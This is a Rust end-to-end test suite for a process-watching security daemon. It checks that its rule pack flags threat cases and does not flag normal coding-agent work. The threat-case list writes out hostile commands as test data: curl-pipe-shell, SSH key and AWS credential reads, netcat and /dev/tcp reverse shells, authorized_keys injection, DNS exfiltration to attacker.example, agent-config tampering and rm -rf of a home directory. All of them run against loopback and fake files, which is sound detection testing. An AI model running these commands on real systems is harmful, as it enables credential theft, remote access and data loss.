//! End-to-end detection: the real daemon with the shipped rule pack watches real processes
//! doing the threat cases of DESIGN.md (against temporary directories, a fake home under
//! /home, loopback listeners and fake secret files: nothing leaves the machine), then normal
//! coding-agent work. Needs root (CI runs as root); fails loudly without it.
use std::{
    io::{Read, Write},
    net::TcpListener,
    path::{Path, PathBuf},
    process::Command,
    time::{Duration, Instant},
};

use serde_json::Value;

mod common;
use common::{pack_dir, python, Daemon, FakeHome, Ns, TempDir, DEADLINE};

/// A loopback HTTP server that answers every request with a small shell script.
fn http_server() -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            let mut buf = [0u8; 8192];
            let _ = s.read(&mut buf);
            let body = "#!/bin/sh\necho downloaded-script-ran\n";
            let _ = write!(
                s,
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\nContent-Type: text/plain\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

/// A loopback listener that accepts and closes at once (the "attacker" end of reverse shells).
fn closing_listener() -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for s in l.incoming() {
            drop(s);
        }
    });
    port
}

/// A stand-in for a tool that is not installed here: /bin/true under the tool's name.
fn fake_tool(dir: &Path, name: &str) -> String {
    let bin = dir.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let p = bin.join(name);
    std::fs::copy("/bin/true", &p).unwrap();
    p.display().to_string()
}

fn rule_ids(findings: &[Value]) -> Vec<String> {
    findings
        .iter()
        .map(|f| f["rule"].as_str().unwrap_or("").to_string())
        .collect()
}

fn finding<'a>(findings: &'a [Value], rule: &str) -> Option<&'a Value> {
    findings.iter().find(|f| f["rule"] == rule)
}

/// Copies the shipped pack into a directory the daemon loads (and the test may edit).

#[test]
fn threat_cases_fire_the_expected_rules() {
    // The home exists before the daemon loads its policy, so the kernel fast paths cover it.
    // Holds off: each case runs to its end and its findings say what would have been held
    // (tests/holds.rs covers holding).
    let home = FakeHome::new();
    let daemon = Daemon::start_with("[holds]\nenabled = false\n");
    let h = home.0.display().to_string();
    let work = TempDir::new("threats");
    let d = work.0.display().to_string();
    std::fs::write(work.0.join(".env"), "API_KEY=fake\n").unwrap();
    let port = http_server();
    let rport = closing_listener();
    let py = python();
    let nc = fake_tool(&work.0, "nc");
    let docker = fake_tool(&work.0, "docker");
    let dig = fake_tool(&work.0, "dig");
    let crontab = fake_tool(&work.0, "crontab");
    let git_user = "-c user.email=agent@example.com -c user.name=agent";

    // (case, script, rule that must fire, evidence the finding must show)
    let cases: Vec<(&str, String, &str, &str)> = vec![
        ("curl | sh", format!("curl -s http://127.0.0.1:{port}/i.sh | sh"), "curl-pipe-shell", "/sh"),
        ("download, chmod, run", format!("curl -s -o {d}/dl.sh http://127.0.0.1:{port}/i.sh && chmod +x {d}/dl.sh && {d}/dl.sh"), "download-then-exec", "/dl.sh"),
        ("read ssh key", format!("cat {h}/.ssh/id_rsa >/dev/null"), "ssh-private-key-read", "/.ssh/id_rsa"),
        ("read aws credentials", format!("cat {h}/.aws/credentials >/dev/null"), "cloud-credentials-read", "/.aws/credentials"),
        ("read kube config", format!("cat {h}/.kube/config >/dev/null"), "kube-config-read", "/.kube/config"),
        ("read .netrc", format!("cat {h}/.netrc >/dev/null"), "token-file-read", "/.netrc"),
        ("read .npmrc", format!("cat {h}/.npmrc >/dev/null"), "token-file-read", "/.npmrc"),
        ("read .env", format!("cat {d}/.env >/dev/null"), "dotenv-read", "/.env"),
        ("read /etc/shadow", "cat /etc/shadow >/dev/null".into(), "shadow-read", "/etc/shadow"),
        ("metadata service", format!("{py} -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry: s.connect(('169.254.169.254', 80))\nexcept OSError as e: print(e)\""), "cloud-metadata-connect", "169.254.169.254"),
        (".bashrc", format!("echo 'curl x|sh' >> {h}/.bashrc"), "shell-rc-write", "/.bashrc"),
        ("authorized_keys", format!("sh -c 'echo ssh-ed25519 AAAA attacker >> {h}/.ssh/authorized_keys'; echo \"rc=$?\" > {d}/ak-rc"), "ssh-authorized-keys-write", "/.ssh/authorized_keys"),
        ("crontab", format!("echo '* * * * * true' > {d}/job.cron && {crontab} {d}/job.cron"), "crontab-install", "crontab"),
        ("systemd user unit", format!("mkdir -p {h}/.config/systemd/user && echo '[Service]' > {h}/.config/systemd/user/evil.service"), "systemd-unit-write", "evil.service"),
        ("git hook", format!("git init -q {d}/hookrepo && echo 'echo pwned' > {d}/hookrepo/.git/hooks/pre-commit"), "git-hook-plant", "/.git/hooks/pre-commit"),
        ("git config", format!("git init -q {d}/cfgrepo && printf '[core]\\n\\thooksPath = /tmp\\n' >> {d}/cfgrepo/.git/config"), "git-config-edit", "/.git/config"),
        ("claude settings", format!("echo '{{\"permissions\":{{\"allow\":[\"*\"]}}}}' > {h}/.claude/settings.json"), "agent-config-tamper", "/.claude/settings.json"),
        (".mcp.json", format!("echo '{{}}' > {d}/.mcp.json"), "agent-config-tamper", "/.mcp.json"),
        ("nc -e", format!("{nc} -e /bin/sh 127.0.0.1 {rport}"), "reverse-shell-netcat", "-e"),
        ("bash /dev/tcp", format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{rport} 0>&1' 2>/dev/null; true"), "reverse-shell-dev-tcp", "/dev/tcp/"),
        ("connect then shell", format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{rport} 0>&1' 2>/dev/null; true"), "reverse-shell-connect-exec", "-i"),
        ("python reverse shell", format!("{py} -c \"import socket,subprocess; s=socket.socket(); s.connect(('127.0.0.1', {rport})); subprocess.call(['/bin/sh', '-c', 'true'])\""), "reverse-shell-interpreter", "socket"),
        ("base64 | sh", "echo ZWNobyBoaQo= | base64 -d | sh".into(), "base64-pipe-shell", "base64"),
        ("docker -v /:/host", format!("{docker} run -v /:/host alpine chroot /host"), "container-host-mount", "/:/host"),
        ("write then exec", format!("printf '#!/bin/sh\\ntrue\\n' > {d}/s.sh && chmod +x {d}/s.sh && {d}/s.sh"), "write-then-exec", "/s.sh"),
        ("upload a file", format!("curl -s -o /dev/null --data-binary @{d}/.env http://127.0.0.1:{port}/"), "file-upload-command", "--data-binary"),
        ("webhook", format!("curl -s -o /dev/null --resolve webhook.site:{port}:127.0.0.1 http://webhook.site:{port}/x"), "webhook-exfil", "webhook.site"),
        ("dns exfil", format!("{dig} +short aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCBrZXkgZm9y.x.attacker.example"), "dns-exfil", "attacker.example"),
        ("secret then connect", format!("cat {h}/.ssh/id_rsa >/dev/null; {py} -c \"import socket; socket.create_connection(('127.0.0.1', {port})).close()\""), "secret-then-connect", "/.ssh/id_rsa"),
        ("git push --force", format!("git init -q --bare {d}/remote.git && git init -q {d}/pushrepo && cd {d}/pushrepo && git {git_user} commit -q --allow-empty -m x && git push -q --force {d}/remote.git HEAD:refs/heads/main"), "git-force-push", "--force"),
        // Last: it really deletes the fake home.
        ("rm -rf ~", format!("rm -rf {h}"), "rm-rf-home", "rm"),
    ];
    let mut failures = Vec::new();
    for (name, script, rule, evidence) in &cases {
        let (_, findings, _) = daemon.run_session(script);
        match finding(&findings, rule) {
            None => failures.push(format!(
                "{name}: rule {rule} did not fire; fired: {:?}",
                rule_ids(&findings)
            )),
            Some(f) => {
                let ev = f["evidence"].to_string();
                if !ev.contains(evidence) {
                    failures.push(format!("{name}: {rule} evidence lacks {evidence:?}: {ev}"));
                }
                if f["policy_version"].as_str().unwrap_or("").len() != 16 {
                    failures.push(format!("{name}: no policy version: {f}"));
                }
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// Rules the kernel decides alone: kill a write under `{w}/vault/`, refuse UDP/TCP port 9 of
/// `addr`.
fn kernel_open_and_connect_rules(w: &str, addr: &str) -> String {
    format!(
        r#"  - id: test-kill-open
    description: test
    severity: high
    action: kill
    mode: enforce
    condition: {{type: open, intent: [write, create], path: "{w}/vault/**"}}
    examples: {{match: [{{type: open, path: "{w}/vault/x", flags: [O_WRONLY]}}]}}
  - id: test-deny-connect
    description: test
    severity: high
    action: hold
    mode: enforce
    condition: {{type: connect, addr: {addr}, port: 9}}
    examples: {{match: [{{type: connect, addr: {addr}, port: 9}}]}}
"#
    )
}

/// A watched write of `{w}/vault/loot` that records its exit status in `{w}/open-rc`.
fn vault_write(w: &str) -> String {
    format!(
        "{py} -c \"f = open('{w}/vault/loot', 'w'); f.write('stolen'); f.close()\"; echo \"rc=$?\" > {w}/open-rc",
        py = python()
    )
}

/// A UDP connect to port 9 of `addr` that prints `connected` or `errno N`.
fn udp_connect(addr: &str) -> String {
    format!(
        "{} -c \"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n  s.connect(('{addr}', 9)); print('connected')\nexcept OSError as e: print('errno', e.errno)\"",
        python()
    )
}

#[test]
fn the_kernel_fast_path_kills_and_refuses_at_the_hook() {
    let work = TempDir::new("fast");
    let w = work.0.display().to_string();
    let forbidden = fake_tool(&work.0, "forbidden-tool");
    std::fs::create_dir_all(work.0.join("vault")).unwrap();
    let rules = pack_dir(&work.0);
    std::fs::write(
        rules.join("test-fast.yaml"),
        format!(
            r#"
rules:
  - id: test-kill-exec
    description: test
    severity: high
    action: kill
    mode: enforce
    condition: {{type: exec, exe: "{forbidden}"}}
    examples: {{match: [{{type: exec, path: "{forbidden}"}}]}}
"#
        ) + &kernel_open_and_connect_rules(&w, "127.0.0.3"),
    )
    .unwrap();
    let daemon = Daemon::start_with(&format!(
        "[rules]\npath = \"{}\"\n[holds]\nenabled = false\n",
        rules.display()
    ));
    let st = daemon.status();
    assert!(st["policy"]["kernel_exec"].as_u64().unwrap() >= 1, "{st}");

    // exec: the new program runs no instruction, so the marker after it is never written by it.
    let (events, findings, _) =
        daemon.run_session(&format!("{forbidden}; echo \"rc=$?\" > {w}/exec-rc"));
    let f =
        finding(&findings, "test-kill-exec").unwrap_or_else(|| panic!("no finding: {findings:#?}"));
    assert_eq!(f["outcome"], "killed_in_kernel", "{f}");
    assert_eq!(
        std::fs::read_to_string(work.0.join("exec-rc"))
            .unwrap()
            .trim(),
        "rc=137"
    );
    assert!(
        events
            .iter()
            .any(|e| e["type"] == "exit" && e["comm"] == "forbidden-tool" && e["signal"] == 9),
        "the program was not killed by SIGKILL: {events:#?}"
    );

    // open for write: killed before it can write a byte.
    let (_, findings, _) = daemon.run_session(&vault_write(&w));
    let f =
        finding(&findings, "test-kill-open").unwrap_or_else(|| panic!("no finding: {findings:#?}"));
    assert_eq!(f["outcome"], "killed_in_kernel", "{f}");
    assert_eq!(
        std::fs::read_to_string(work.0.join("open-rc"))
            .unwrap()
            .trim(),
        "rc=137"
    );
    assert_eq!(
        std::fs::read_to_string(work.0.join("vault/loot")).unwrap(),
        "",
        "data was written"
    );

    // connect: refused for the watched process, allowed for an unwatched one.
    let probe = udp_connect("127.0.0.3");
    let out = Command::new("sh").args(["-c", &probe]).output().unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "connected",
        "unwatched connect was refused"
    );
    let (events, findings, _) = daemon.run_session(&format!("{probe} > {w}/connect-out"));
    assert_eq!(
        std::fs::read_to_string(work.0.join("connect-out"))
            .unwrap()
            .trim(),
        "errno 1"
    );
    let f = finding(&findings, "test-deny-connect")
        .unwrap_or_else(|| panic!("no finding: {events:#?}"));
    assert_eq!(f["outcome"], "refused_in_kernel", "{f}");
    assert_eq!(f["evidence"][0]["error"], "EPERM", "{f}");
}

#[test]
fn normal_agent_work_is_not_held_or_killed() {
    // A hold here is a failure: a short deadline ends it (deny) instead of a 10-minute wait.
    let daemon = Daemon::start_with("[holds]\ntimeout = \"20s\"\n");
    let work = TempDir::new("normal");
    let w = work.0.display().to_string();
    // A small crate with real dependencies from the local cargo cache (no network).
    std::fs::create_dir_all(work.0.join("app/src")).unwrap();
    std::fs::write(
        work.0.join("app/Cargo.toml"),
        "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nitoa = \"1\"\nmemchr = \"2\"\n",
    )
    .unwrap();
    std::fs::write(
        work.0.join("app/src/lib.rs"),
        "pub fn show(n: u64) -> String { itoa::Buffer::new().format(n).to_string() }\n\
         pub fn find(h: &[u8]) -> Option<usize> { memchr::memchr(b'x', h) }\n\
         #[cfg(test)] mod tests { #[test] fn works() { assert_eq!(super::show(42), \"42\"); assert_eq!(super::find(b\"abx\"), Some(2)); } }\n",
    )
    .unwrap();
    let git = "git -c user.email=agent@example.com -c user.name=agent";
    let script = format!(
        "set -e; cd {w}/app && cargo build --offline -q && cargo test --offline -q 2>&1 | tail -3 && \
         git init -q && {git} add -A && {git} commit -q -m init && \
         git clone -q {w}/app {w}/clone && cd {w}/clone && git log --oneline | wc -l && \
         cd {w}/app && git gc -q && rm -rf target && echo done"
    );
    let gated = |d: &Daemon| d.status()["gate"]["gated"].as_u64().unwrap();
    let before = gated(&daemon);
    // Followed from its start: the whole session is more than the daemon's backlog of recent
    // events holds.
    let (mut child, trace) = common::holds::launch_bg(&daemon, &script);
    let events = daemon.session_events(&trace, None);
    let code = common::holds::wait_exit(&mut child).code().unwrap_or(-1);
    let findings = daemon.findings(&trace);
    assert_eq!(code, 0, "the work failed: {events:#?}");
    let execs = events.iter().filter(|e| e["type"] == "exec").count();
    assert!(
        execs > 20,
        "expected a real build (compiler tree); saw {execs} execs"
    );
    // The gate stops only what an enforce rule could match: here the shells and git runs.
    let stopped = gated(&daemon) - before;
    let gateable = events
        .iter()
        .filter(|e| ["exec", "open", "connect"].contains(&e["type"].as_str().unwrap_or("")))
        .count() as u64;
    eprintln!("build, test, commit, clone: {stopped} of {gateable} exec/open/connect events gated ({execs} execs)");
    assert!(
        stopped * 10 < gateable,
        "the gate stopped {stopped} of {gateable} events of normal work"
    );
    assert_nothing_stopped(&findings, "normal work");

    // New projects made with their own tools write .git/config, hook samples, package files
    // and a virtualenv: none of it is tampering. (Its own session: a venv alone is more
    // events than the daemon keeps for a late reader, so only the findings are read.)
    let wheel = tiny_wheel(&work.0);
    let script = format!(
        "set -e; cargo new -q --vcs git {w}/newcrate && git init -q {w}/newrepo && \
         mkdir {w}/newnpm && cd {w}/newnpm && npm init -y > /dev/null && npm install -q --offline > /dev/null && \
         mkdir -p node_modules/left-pad/lib && touch node_modules/left-pad/lib/index.js && rm -rf node_modules && \
         {py} -m venv {w}/venv && {w}/venv/bin/python -c 'import sys; print(sys.prefix)' && \
         {w}/venv/bin/pip install -q --no-index --no-deps --disable-pip-version-check {wheel}",
        py = common::python(),
        wheel = wheel.display()
    );
    let before = gated(&daemon);
    let (trace, code) = daemon.launch(&script);
    let findings = daemon.findings(&trace);
    assert_eq!(
        code, 0,
        "creating projects failed (a hold denied at its deadline?): {findings:#?}"
    );
    for made in [
        "newcrate/.git/config",
        "newcrate/Cargo.toml",
        "newrepo/.git/config",
        "newnpm/package.json",
        "venv/bin/python",
    ] {
        assert!(work.0.join(made).exists(), "{made} was not made");
    }
    let installed = std::fs::read_dir(work.0.join("venv/lib"))
        .unwrap()
        .filter_map(Result::ok)
        .any(|d| {
            d.path()
                .join("site-packages/watcher_demo/__init__.py")
                .exists()
        });
    assert!(installed, "pip did not install the wheel into the venv");
    eprintln!(
        "new projects and a pip install: {} events gated",
        gated(&daemon) - before
    );
    assert_nothing_stopped(&findings, "creating a project");
}

/// No finding of `what` holds or kills, or is above `low`.
fn assert_nothing_stopped(findings: &[Value], what: &str) {
    let loud: Vec<&Value> = findings
        .iter()
        .filter(|f| !["info", "low"].contains(&f["severity"].as_str().unwrap_or("")))
        .collect();
    assert!(loud.is_empty(), "{what} alerts above low: {loud:#?}");
    let stops: Vec<&Value> = findings
        .iter()
        .filter(|f| f["action"] == "hold" || f["action"] == "kill")
        .collect();
    assert!(
        stops.is_empty(),
        "{what} would be held or killed: {stops:#?}"
    );
}

/// A wheel with one empty package, made by hand (a zip with the dist-info pip reads), so that
/// `pip install` runs for real with no index.
fn tiny_wheel(dir: &Path) -> PathBuf {
    let path = dir.join("watcher_demo-0.1-py3-none-any.whl");
    let script = format!(
        "import zipfile\n\
         files = {{'watcher_demo/__init__.py': '', \
         'watcher_demo-0.1.dist-info/METADATA': 'Metadata-Version: 2.1\\nName: watcher-demo\\nVersion: 0.1\\n', \
         'watcher_demo-0.1.dist-info/WHEEL': 'Wheel-Version: 1.0\\nGenerator: hand\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n'}}\n\
         rec = ''.join(f'{{n}},,\\n' for n in files) + 'watcher_demo-0.1.dist-info/RECORD,,\\n'\n\
         with zipfile.ZipFile({path:?}, 'w') as z:\n\
         \x20   [z.writestr(n, b) for n, b in files.items()]\n\
         \x20   z.writestr('watcher_demo-0.1.dist-info/RECORD', rec)\n",
        path = path.display().to_string()
    );
    let st = Command::new(common::python())
        .args(["-c", &script])
        .status()
        .unwrap();
    assert!(st.success(), "making the test wheel failed");
    path
}

/// Waits until `cond` holds on the daemon's status (a reload is asynchronous).
fn await_status(daemon: &Daemon, what: &str, cond: impl Fn(&Value) -> bool) -> Value {
    let start = Instant::now();
    loop {
        let st = daemon.status();
        if cond(&st) {
            return st;
        }
        assert!(
            start.elapsed() < DEADLINE,
            "timed out waiting for {what}: {st}"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn broken_rule_files_are_rejected_and_the_running_policy_stays() {
    let work = TempDir::new("reload");
    let rules = pack_dir(&work.0);
    let daemon = Daemon::start_with(&format!("[rules]\npath = \"{}\"\n", rules.display()));
    let before = daemon.status()["policy"]["version"]
        .as_str()
        .unwrap()
        .to_string();
    let secret = work.0.join("token.txt");
    std::fs::write(&secret, "fake\n").unwrap();
    let marker_rule = |id: &str| {
        format!(
            "rules:\n  - id: {id}\n    description: test\n    severity: low\n    action: alert\n    condition:\n      type: open\n      path: \"{}\"\n    examples:\n      match: [{{type: open, path: \"{}\"}}]\n",
            secret.display(),
            secret.display()
        )
    };
    let broken = [
        ("bad YAML", "rules:\n  - id: [unclosed\n".to_string(), "bad.yaml:2:"),
        ("unknown field", "rules:\n  - id: x\n    description: d\n    severity: low\n    action: alert\n    colour: red\n".to_string(), "unknown field `colour`"),
        ("bad glob", "rules:\n  - id: x\n    description: d\n    severity: low\n    action: alert\n    condition:\n      path: \"/a/[b\"\n".to_string(), "bad.yaml:7:"),
        ("bad CIDR", "rules:\n  - id: x\n    description: d\n    severity: low\n    action: alert\n    condition:\n      addr: 10.0.0.0/33\n".to_string(), "invalid address or CIDR \"10.0.0.0/33\""),
    ];
    for (what, text, expect) in &broken {
        std::fs::write(rules.join("bad.yaml"), text).unwrap();
        let out = daemon.cli().args(["rules", "reload"]).output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            !out.status.success(),
            "{what}: reload accepted a broken file"
        );
        assert!(
            err.contains("bad.yaml") && err.contains(expect),
            "{what}: imprecise error: {err}"
        );
        let check = daemon
            .cli()
            .args(["rules", "check"])
            .arg(rules.join("bad.yaml"))
            .output()
            .unwrap();
        assert!(!check.status.success(), "{what}: rules check accepted it");
        let st = daemon.status();
        assert_eq!(
            st["policy"]["version"],
            before.as_str(),
            "{what}: the policy changed"
        );
        assert!(
            st["policy"]["last_error"]
                .as_str()
                .unwrap_or("")
                .contains("bad.yaml"),
            "{st}"
        );
    }
    // The previous policy still matches (the shipped pack's .env rule).
    std::fs::write(work.0.join(".env"), "K=v\n").unwrap();
    let (_, findings, _) = daemon.run_session(&format!("cat {}/.env", work.0.display()));
    assert!(finding(&findings, "dotenv-read").is_some(), "{findings:#?}");

    // A valid change is picked up from the file system alone...
    std::fs::remove_file(rules.join("bad.yaml")).unwrap();
    std::fs::write(rules.join("extra.yaml"), marker_rule("test-marker-a")).unwrap();
    let st = await_status(&daemon, "the file change to load", |st| {
        st["policy"]["version"] != before.as_str() && st["policy"]["last_error"].is_null()
    });
    let after_file = st["policy"]["version"].as_str().unwrap().to_string();
    let (_, findings, _) = daemon.run_session(&format!("cat {}", secret.display()));
    let f = finding(&findings, "test-marker-a").unwrap_or_else(|| panic!("{findings:#?}"));
    assert_eq!(f["policy_version"], after_file.as_str());

    // ...and by SIGHUP.
    let reloads = st["policy"]["reloads"].as_u64().unwrap();
    // SAFETY: signalling our own child.
    unsafe { libc::kill(daemon.pid() as i32, libc::SIGHUP) };
    await_status(&daemon, "SIGHUP to reload", |st| {
        st["policy"]["reloads"].as_u64().unwrap() > reloads
    });
}

/// A reload changes the kernel policy and the filters in front of it together: an entry added
/// by a reload acts at the hook at once, and one removed stops acting.
#[test]
fn a_reloaded_kernel_policy_acts_at_once_and_a_removed_entry_stops() {
    let work = TempDir::new("fast-reload");
    let w = work.0.display().to_string();
    std::fs::create_dir_all(work.0.join("vault")).unwrap();
    let rules = pack_dir(&work.0);
    let daemon = Daemon::start_with(&format!(
        "[rules]\npath = \"{}\"\n[holds]\nenabled = false\n",
        rules.display()
    ));
    // No entry of the shipped pack starts with this directory's first two bytes or covers
    // 127.0.0.0/8, so the filters start with these bits clear.
    let write = vault_write(&w);
    let connect = format!("{} > {w}/connect-out", udp_connect("127.0.0.5"));
    let outcome = |daemon: &Daemon| -> (String, String, String) {
        let _ = std::fs::remove_file(work.0.join("vault/loot"));
        daemon.run_session(&write);
        daemon.run_session(&connect);
        let read = |f: &str| {
            std::fs::read_to_string(work.0.join(f))
                .unwrap_or_default()
                .trim()
                .to_string()
        };
        (read("open-rc"), read("vault/loot"), read("connect-out"))
    };
    let allowed = (
        "rc=0".to_string(),
        "stolen".to_string(),
        "connected".to_string(),
    );
    assert_eq!(outcome(&daemon), allowed, "before the reload");

    let version = |st: &Value| st["policy"]["version"].as_str().unwrap().to_string();
    let before = version(&daemon.status());
    std::fs::write(
        rules.join("test-fast.yaml"),
        format!("rules:\n{}", kernel_open_and_connect_rules(&w, "127.0.0.5")),
    )
    .unwrap();
    let st = await_status(&daemon, "the new rules to load", |st| {
        version(st) != before && st["policy"]["last_error"].is_null()
    });
    assert_eq!(
        outcome(&daemon),
        ("rc=137".to_string(), String::new(), "errno 1".to_string()),
        "after adding the entries"
    );

    let added = version(&st);
    std::fs::remove_file(rules.join("test-fast.yaml")).unwrap();
    await_status(&daemon, "the rules to unload", |st| {
        version(st) != added && st["policy"]["last_error"].is_null()
    });
    assert_eq!(outcome(&daemon), allowed, "after removing them");
}

/// Runs `script` as a watched session as root in a private mount namespace with its own
/// /root (a tmpfs holding `npmrc` as `.npmrc`); returns its exit code, findings and events.
fn launch_as_root_in_private_home(
    d: &Daemon,
    npmrc: &str,
    script: &str,
) -> (i32, Vec<Value>, Vec<Value>) {
    let setup = format!("printf '%s' '{npmrc}' > /root/.npmrc;");
    let out = d.launch_in(Ns::Private, &setup, script).output().unwrap();
    let trace = common::trace_of(&out.stderr);
    let events = d.session_events(&trace, None);
    (out.status.code().unwrap_or(-1), d.findings(&trace), events)
}

/// Work done as root (agents in containers run as root), in a private mount namespace with
/// its own /root, each its own session: an in-place edit of a root-owned file in a scratch
/// directory (sed keeps the owner with a chown to the owner it already has), npm reading its
/// configuration in /root and then fetching, a dev server bound to loopback. None is held.
#[test]
fn normal_work_as_root_is_not_held() {
    let daemon = Daemon::start_with("[holds]\ntimeout = \"20s\"\n");
    let work = TempDir::new("normal-root");
    let w = work.0.display().to_string();
    let registry = http_server();
    let npmrc = format!("registry=http://127.0.0.1:{registry}/\n");
    let has = |events: &[Value], f: &dyn Fn(&Value) -> bool| events.iter().any(f);

    std::fs::write(work.0.join("notes.txt"), "alpha\n").unwrap();
    let (code, findings, events) = launch_as_root_in_private_home(
        &daemon,
        &npmrc,
        &format!("sed -i 's/alpha/beta/' {w}/notes.txt"),
    );
    assert_eq!(code, 0, "sed -i failed: {findings:#?}");
    assert_eq!(
        std::fs::read_to_string(work.0.join("notes.txt")).unwrap(),
        "beta\n"
    );
    assert!(
        has(&events, &|e| e["type"] == "chown"
            && e["path"].as_str().is_some_and(|p| p.starts_with(&w))),
        "no chown by sed: {events:#?}"
    );
    assert_nothing_stopped(&findings, "sed -i as root");

    // npm's configuration lives in the private /root only (a tmpfs), never in the host's.
    let (_, findings, events) =
        launch_as_root_in_private_home(&daemon, &npmrc, "npm ping --fetch-retries=0 || true");
    assert!(
        has(&events, &|e| e["type"] == "open"
            && e["path"] == "/root/.npmrc"
            && e["result"].as_i64() >= Some(0)),
        "npm did not read /root/.npmrc"
    );
    assert!(
        has(&events, &|e| e["type"] == "connect"
            && e["port"] == registry),
        "npm did not fetch"
    );
    assert_nothing_stopped(&findings, "npm as root");

    // Debian's python: the test's own may live under the /root that the namespace hides.
    let dev = common::free_port();
    let (code, findings, events) = launch_as_root_in_private_home(
        &daemon,
        &npmrc,
        &format!(
            "/usr/bin/python3 -m http.server --bind 127.0.0.1 {dev} --directory {w} > /dev/null 2>&1 & \
             ok=1; for i in $(seq 300); do curl -sf -o /dev/null http://127.0.0.1:{dev}/notes.txt && ok=0 && break; sleep 0.1; done; \
             kill $!; exit $ok"
        ),
    );
    assert_eq!(code, 0, "the dev server did not answer: {findings:#?}");
    assert!(
        has(&events, &|e| e["type"] == "exec"
            && e["argv"].to_string().contains("http.server")),
        "no dev server"
    );
    assert_nothing_stopped(&findings, "a dev server on loopback as root");
}
